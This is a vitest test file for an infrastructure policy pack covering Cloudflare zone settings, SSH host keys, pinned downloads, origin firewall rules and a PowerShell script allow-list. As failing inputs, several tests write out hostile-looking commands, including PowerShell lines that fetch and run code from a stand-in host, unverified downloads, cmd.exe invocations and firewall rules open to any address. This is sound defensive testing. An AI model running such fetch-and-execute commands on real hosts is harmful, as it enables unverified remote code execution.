/** Each policy of the pack on fake resource arguments: one that passes, and ones that must fail. */
import { describe, expect, it } from "vitest";
import { buildStdin, inlineCommand } from "../../components/host/bootstrap";
import { stepNames } from "../../components/host/steps";
import { winrmCommandLines } from "../../components/host/winrmRunner";
import { FAKE_SECRETS, prodConfig, stagingConfig, withMode } from "../support/fixtures/configs";
import { command, RANGES, resourceViolations, stackViolations, step } from "./util";

const ZONE_SETTING = "cloudflare:index/zoneSetting:ZoneSetting";
const REMOTE = "command:remote:Command";
const LOCAL = "command:local:Command";
const TUNNEL = "cloudflare:index/zeroTrustTunnelCloudflared:ZeroTrustTunnelCloudflared";

const setting = (settingId: string, value: unknown) => ({ zoneId: "z", settingId, value });

describe("zone-ssl-mode-encrypted", () => {
    it.each(["strict", "full"])("passes ssl %s", async (value) => {
        expect(await resourceViolations("zone-ssl-mode-encrypted", ZONE_SETTING, setting("ssl", value))).toEqual([]);
    });
    it.each(["flexible", "off", "Flexible"])("fails ssl %s", async (value) => {
        expect(await resourceViolations("zone-ssl-mode-encrypted", ZONE_SETTING, setting("ssl", value))).toEqual([
            `ssl mode "${value}" leaves the origin connection unencrypted: use "full" or "strict"`,
        ]);
    });
    it("ignores other settings and other resources", async () => {
        expect(await resourceViolations("zone-ssl-mode-encrypted", ZONE_SETTING, setting("always_online", "off"))).toEqual([]);
        expect(await resourceViolations("zone-ssl-mode-encrypted", "cloudflare:index/dnsRecord:DnsRecord", setting("ssl", "off"))).toEqual([]);
    });
});

describe("zone-min-tls-1-2", () => {
    it.each(["1.2", "1.3"])("passes %s", async (value) => {
        expect(await resourceViolations("zone-min-tls-1-2", ZONE_SETTING, setting("min_tls_version", value))).toEqual([]);
    });
    it.each(["1.0", "1.1", 1.2])("fails %s", async (value) => {
        expect(await resourceViolations("zone-min-tls-1-2", ZONE_SETTING, setting("min_tls_version", value))).toEqual([
            `min_tls_version ${JSON.stringify(value)} is below 1.2: use "1.2" or "1.3"`,
        ]);
    });
});

describe("remote-command-host-key", () => {
    const script = step("preflight", prodConfig).create;
    it("passes a remote command with an OpenSSH host key", async () => {
        expect(await resourceViolations("remote-command-host-key", REMOTE, command(script))).toEqual([]);
    });
    it("fails without connection.hostKey", async () => {
        expect(await resourceViolations("remote-command-host-key", REMOTE, command(script, { hostKey: null }))).toEqual([
            "remote command without connection.hostKey: the host key would not be checked",
        ]);
        expect(await resourceViolations("remote-command-host-key", REMOTE, command(script, { hostKey: "  " }))).toHaveLength(1);
    });
    it("fails on a host key that is not an OpenSSH key line", async () => {
        expect(await resourceViolations("remote-command-host-key", REMOTE, command(script, { hostKey: "SHA256:abcdef" }))).toEqual([
            "connection.hostKey is not an OpenSSH public key line (type and base64)",
        ]);
    });
    it("does not apply to local commands", async () => {
        expect(await resourceViolations("remote-command-host-key", LOCAL, { create: "node run.js" })).toEqual([]);
    });
});

describe("command-secret-output-not-logged", () => {
    const script = step("cloudflared", prodConfig).create;
    const secrets = { tunnelToken: FAKE_SECRETS.tunnelToken };
    it.each(["none", "stdout"])("passes secrets on stdin with logging %s", async (logging) => {
        expect(await resourceViolations("command-secret-output-not-logged", REMOTE, command(script, { secrets, logging }))).toEqual([]);
    });
    it.each([undefined, "stderr", "stdoutAndStderr"])("fails secrets on stdin with logging %s", async (logging) => {
        expect(await resourceViolations("command-secret-output-not-logged", REMOTE, command(script, { secrets, logging }))).toEqual([
            `command receives secrets on stdin but logging is "${logging ?? "stdoutAndStderr"}": set logging to "stdout" or "none"`,
        ]);
    });
    it("fails on a local command too", async () => {
        expect(await resourceViolations("command-secret-output-not-logged", LOCAL, { stdin: buildStdin(script, secrets) })).toHaveLength(1);
    });
    it("passes a secret-free stdin with the default logging", async () => {
        expect(await resourceViolations("command-secret-output-not-logged", REMOTE, command(script))).toEqual([]);
    });
});

describe("downloads-pinned-sha256", () => {
    const tools = step("tools", prodConfig);
    const policy = "downloads-pinned-sha256";
    it("passes the tools step (create, audit and delete)", async () => {
        expect(tools.create).toContain("Save-NovaVerifiedDownload -Url $NovaCloudflaredUrl -Expected $desired");
        expect(await resourceViolations(policy, REMOTE, command(tools.create, { deleteScript: tools.delete }))).toEqual([]);
        expect(await resourceViolations(policy, REMOTE, command(tools.audit))).toEqual([]);
    });
    it("fails when a pin is not 64 hex digits", async () => {
        const broken = tools.create.replace(`$desired = '${prodConfig.tools.nssm.sha256}'`, "$desired = 'abc123'");
        expect(broken).not.toBe(tools.create);
        expect(await resourceViolations(policy, REMOTE, command(broken))).toEqual(["a download is not pinned with a 64-hex SHA-256 (-Expected $desired)"]);
    });
    it("fails on a download outside the verified function", async () => {
        const broken = `${tools.create}Invoke-WebRequest -UseBasicParsing -Uri 'https://example.net/x.exe' -OutFile 'C:\\x.exe'\n`;
        expect(await resourceViolations(policy, REMOTE, command(broken))).toEqual([
            "a download (Invoke-WebRequest) outside Save-NovaVerifiedDownload is not checked against a SHA-256",
        ]);
        const webClient = `${tools.create}(New-Object Net.WebClient).DownloadFile('https://example.net/x', 'x')\n`;
        expect(await resourceViolations(policy, REMOTE, command(webClient))).toHaveLength(1);
    });
    it("treats a plain web request (the health probe) as no download, a saved or executed one as a download", async () => {
        const health = step("health", prodConfig).create;
        expect(health).toContain("Invoke-WebRequest -UseBasicParsing -Uri $NovaHealthUrl");
        expect(await resourceViolations(policy, REMOTE, command(health))).toEqual([]);
        for (const line of ["curl.exe -sL -o 'C:\\t\\x.zip' 'https://example.net/x.zip'", "iex (iwr -UseBasicParsing 'https://example.net/i.ps1').Content", "Start-BitsTransfer -Source 'https://example.net/x' -Destination 'x'"]) {
            expect(await resourceViolations(policy, REMOTE, command(`${health}${line}\n`)), line).toHaveLength(1);
        }
    });
    it("treats a loopback probe built from constants and integers as no download", async () => {
        const health = step("health", prodConfig).create;
        const probe = "foreach ($port in @(20241, 20242)) { Invoke-WebRequest -UseBasicParsing -Uri ('http://127.0.0.1:' + $port + '/ready') -TimeoutSec 3 }\n";
        expect(await resourceViolations(policy, REMOTE, command(`${health}${probe}`))).toEqual([]);
        expect(await resourceViolations(policy, REMOTE, command(`${health}${probe.replace("127.0.0.1", "203.0.113.9")}`))).toHaveLength(1);
    });
    it("passes a helper that retries its one fetch in a loop (the break leaves the loop, not the helper)", async () => {
        const loop = "  while ($true) {\n    $attempt++\n";
        const fetch = "    try { Invoke-WebRequest -UseBasicParsing -Uri $Url -OutFile $Path -TimeoutSec 300; break }\n";
        expect(tools.create).toContain(loop);
        expect(tools.create).toContain(fetch);
        expect(await resourceViolations(policy, REMOTE, command(tools.create))).toEqual([]);
        // Without the loop, the same break leaves the helper before the hash check.
        const unlooped = tools.create.replace(loop, "  if ($true) {\n    $attempt++\n");
        expect(await resourceViolations(policy, REMOTE, command(unlooped))).toEqual(["Save-NovaVerifiedDownload has a break that can skip its SHA-256 check"]);
    });
    it("fails when the verified function no longer compares the hash", async () => {
        const broken = tools.create.replace("if ($hash -ne $Expected) {", "if ($false) {");
        expect(broken).not.toBe(tools.create);
        expect(await resourceViolations(policy, REMOTE, command(broken))).toEqual([
            "Save-NovaVerifiedDownload does not check the file's SHA-256 against -Expected after the fetch (compute, compare with -ne, throw)",
        ]);
    });
    it("fails on a plain-http URL", async () => {
        const broken = tools.create.replace(`$NovaNssmUrl = '${prodConfig.tools.nssm.url}'`, "$NovaNssmUrl = 'http://nssm.cc/nssm.zip'");
        expect(broken).not.toBe(tools.create);
        expect(await resourceViolations(policy, REMOTE, command(broken))).toEqual(["a download URL is not a fixed https URL (-Url $NovaNssmUrl)"]);
    });
});

describe("origin-firewall-cloudflare-only", () => {
    const policy = "origin-firewall-cloudflare-only";
    const direct = step("firewall", stagingConfig);
    const tunnel = step("firewall", withMode(stagingConfig, "tunnel"));
    const fw = (script: string, deleteScript?: string) => ({ type: REMOTE, name: "staging-firewall", props: command(script, { deleteScript }) });

    it("passes direct mode with Cloudflare's ranges (create, audit, delete)", async () => {
        expect(direct.create).toContain("-RemoteAddress $NovaCidrs");
        expect(await stackViolations(policy, [fw(direct.create, direct.delete), fw(direct.audit)])).toEqual([]);
    });
    it("fails direct mode when an address outside the ranges is admitted", async () => {
        const wider = step("firewall", stagingConfig, { ipv4: [...RANGES.ipv4, "203.0.113.0/24"], ipv6: [...RANGES.ipv6, "::/0"] });
        expect(await stackViolations(policy, [fw(wider.create)])).toEqual([
            {
                message: "the firewall rule admits addresses outside Cloudflare's ranges: 203.0.113.0/24, ::/0",
                urn: `urn:pulumi:test::nova::${REMOTE}::staging-firewall`,
            },
        ]);
    });
    const ours = "New-NetFirewallRule -Name 'nova-infra-staging-tcp-8010-in' -Group 'NOVA (nova-infra)' -Direction Inbound -Action Allow -Protocol TCP -LocalPort 8010";
    it("fails direct mode on a rule without -RemoteAddress, with Any, or with an expression", async () => {
        expect((await stackViolations(policy, [fw(ours)])).map((v) => v.message)).toEqual([
            "an inbound firewall rule is created without -RemoteAddress (it would admit any address)",
        ]);
        expect((await stackViolations(policy, [fw(`${ours} -RemoteAddress Any`)])).map((v) => v.message)).toEqual([
            "the firewall rule admits addresses outside Cloudflare's ranges: Any",
        ]);
        expect((await stackViolations(policy, [fw(`${ours} -RemoteAddress (Get-Content 'C:\\ips.txt')`)])).map((v) => v.message)).toEqual([
            "cannot verify the firewall rule's remote addresses: -RemoteAddress (Get-Content 'C:\\ips.txt')",
        ]);
    });
    it("reads rules inside an encoded command line too", async () => {
        const props = { ...command("Write-Output 'x'"), delete: inlineCommand(`${ours} -RemoteAddress '198.51.100.7'`) };
        expect((await stackViolations(policy, [{ type: REMOTE, props }])).map((v) => v.message)).toEqual([
            "the firewall rule admits addresses outside Cloudflare's ranges: 198.51.100.7",
        ]);
    });
    it("reads the delete script of the stdin document (the WinRM runner's --delete) too", async () => {
        const lines = winrmCommandLines({ create: "", audit: "", delete: `${ours} -RemoteAddress '198.51.100.8'` });
        const props = { create: lines.create, update: lines.update, delete: lines.delete, stdin: buildStdin("Write-Output 'x'", undefined, `${ours} -RemoteAddress '198.51.100.8'`) };
        expect(props.delete).toMatch(/ --delete$/);
        expect((await stackViolations(policy, [{ type: LOCAL, props }])).map((v) => v.message)).toEqual([
            "the firewall rule admits addresses outside Cloudflare's ranges: 198.51.100.8",
        ]);
    });
    it("reads the WinRM runner's delete script of an older state (--script-b64) too", async () => {
        const lines = winrmCommandLines({ create: "", audit: "" });
        const b64 = Buffer.from(buildStdin(`${ours} -RemoteAddress '198.51.100.9'`)).toString("base64");
        const props = { create: lines.create, update: lines.update, delete: `${lines.create} --script-b64 ${b64}`, stdin: buildStdin("Write-Output 'x'") };
        expect((await stackViolations(policy, [{ type: LOCAL, props }])).map((v) => v.message)).toEqual([
            "the firewall rule admits addresses outside Cloudflare's ranges: 198.51.100.9",
        ]);
    });
    it("ignores the addresses of our outbound and block rules, not their shape", async () => {
        const out = `${ours.replace("-Direction Inbound", "-Direction Outbound")} -RemoteAddress Any\n${ours.replace("-Action Allow", "-Action Block")} -RemoteAddress Any`;
        expect(await stackViolations(policy, [fw(out)])).toEqual([]);
        expect((await stackViolations(policy, [fw("New-NetFirewallRule -Name 'o' -Direction Outbound -RemoteAddress Any")])).map((v) => v.message)).toEqual([
            "New-NetFirewallRule is not our rule shape: -Group must be 'NOVA (nova-infra <stack>)' and -Name nova-infra-<stack>-tcp-<port>-in (got -Group missing, -Name 'o')",
        ]);
    });
    it("passes tunnel mode without inbound rules", async () => {
        expect(tunnel.create).not.toContain("New-NetFirewallRule");
        expect(await stackViolations(policy, [{ type: TUNNEL, props: {} }, fw(tunnel.create, tunnel.delete)])).toEqual([]);
    });
    it("fails tunnel mode when a script creates an inbound rule, even one limited to Cloudflare", async () => {
        expect((await stackViolations(policy, [{ type: TUNNEL, props: {} }, fw(direct.create)])).map((v) => v.message)).toEqual([
            "tunnel mode: a script creates an inbound firewall rule (New-NetFirewallRule)",
            "tunnel mode: a script opens an inbound firewall rule to remote addresses",
        ]);
    });
    it("fails an inbound netsh rule", async () => {
        const netsh = "netsh advfirewall firewall add rule name=x dir=in action=allow protocol=TCP localport=8000";
        expect((await stackViolations(policy, [fw(netsh)])).map((v) => v.message)).toEqual([
            "the firewall is changed with netsh.exe, which this policy cannot verify: use our rule shapes (New-NetFirewallRule/Set-NetFirewallRule)",
        ]);
    });
});

describe("host-script-allow-list", () => {
    const policy = "host-script-allow-list";
    it("passes every step script of both ingress modes (create, audit, delete)", async () => {
        for (const cfg of [prodConfig, stagingConfig, withMode(prodConfig, "direct"), withMode(stagingConfig, "tunnel")]) {
            for (const name of stepNames(cfg)) {
                const s = step(name, cfg);
                expect(await resourceViolations(policy, REMOTE, command(s.create, { deleteScript: s.delete })), name).toEqual([]);
                expect(await resourceViolations(policy, REMOTE, command(s.audit)), name).toEqual([]);
            }
        }
    });
    it("fails Invoke-Expression behind an alias, a program off the list, and a command line of no known shape", async () => {
        const health = step("health", prodConfig).create;
        expect(await resourceViolations(policy, REMOTE, command(`${health}iex 'Write-Output 1'\n`))).toEqual([
            "runs iex (Invoke-Expression), which the policy refuses: it runs code or changes commands the policy cannot read",
        ]);
        expect(await resourceViolations(policy, REMOTE, command(`${health}& 'C:\\Windows\\System32\\cmd.exe' /c 'whoami'\n`))).toEqual([
            "runs cmd.exe, which is not one of the allowed programs (sc.exe, nssm.exe, cloudflared.exe)",
        ]);
        expect(await resourceViolations(policy, REMOTE, { ...command(health), create: "powershell -Command \"iwr https://example.net | iex\"" })).toEqual([
            'a command line the policy cannot read (neither the bootstrap, an inline script nor the WinRM runner): powershell -Command "iwr https://example.net | iex"',
        ]);
    });
    it("passes a provider-resolved path (the usual way to hand .NET a path)", async () => {
        const health = step("health", prodConfig).create;
        const line = "$p = $ExecutionContext.SessionState.Path.GetUnresolvedProviderPathFromPSPath('C:\\nova\\x.txt')\n[System.IO.File]::ReadAllText($p) | Out-Null\n";
        expect(await resourceViolations(policy, REMOTE, command(`${health}${line}`))).toEqual([]);
    });
    it("binds a script function's own switch: Invoke-NovaNative -HideOutput takes no argument", async () => {
        // The service step ships Invoke-NovaNative (steps carry only the helpers they use).
        const service = step("service", prodConfig).create;
        expect(await resourceViolations(policy, REMOTE, command(`${service}Invoke-NovaNative -HideOutput 'sc.exe' @('query', 'x')\n`))).toEqual([]);
        expect(await resourceViolations(policy, REMOTE, command(`${service}Invoke-NovaNative -HideOutput 'cmd.exe' @('/c', 'x')\n`))).toEqual([
            "Invoke-NovaNative runs cmd.exe, which is not one of the allowed programs (sc.exe, nssm.exe, cloudflared.exe)",
        ]);
    });
    it("passes Win32_Service.Change on a service read with Get-CimInstance, fails other CIM methods", async () => {
        const health = step("health", prodConfig).create;
        const change = "$s = Get-CimInstance -ClassName Win32_Service -Filter \"Name = 'NOVA'\"\n$r = Invoke-CimMethod -InputObject $s -MethodName Change -Arguments @{ StartName = 'x' }\n";
        expect(await resourceViolations(policy, REMOTE, command(`${health}${change}`))).toEqual([]);
        const create = "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{ CommandLine = 'cmd.exe' }\n";
        expect(await resourceViolations(policy, REMOTE, command(`${health}${create}`))).toEqual([
            "runs Invoke-CimMethod, which the policy refuses: it runs code or changes commands the policy cannot read",
        ]);
    });
    it("fails a parameter PowerShell 5.1 cannot bind", async () => {
        const health = step("health", prodConfig).create;
        expect(await resourceViolations(policy, REMOTE, command(`${health}Invoke-WebRequest -Uri 'http://127.0.0.1:8000/health' -SkipCertificateCheck\n`))).toEqual([
            "Invoke-WebRequest: A parameter cannot be found that matches parameter name 'SkipCertificateCheck'.",
        ]);
    });
});
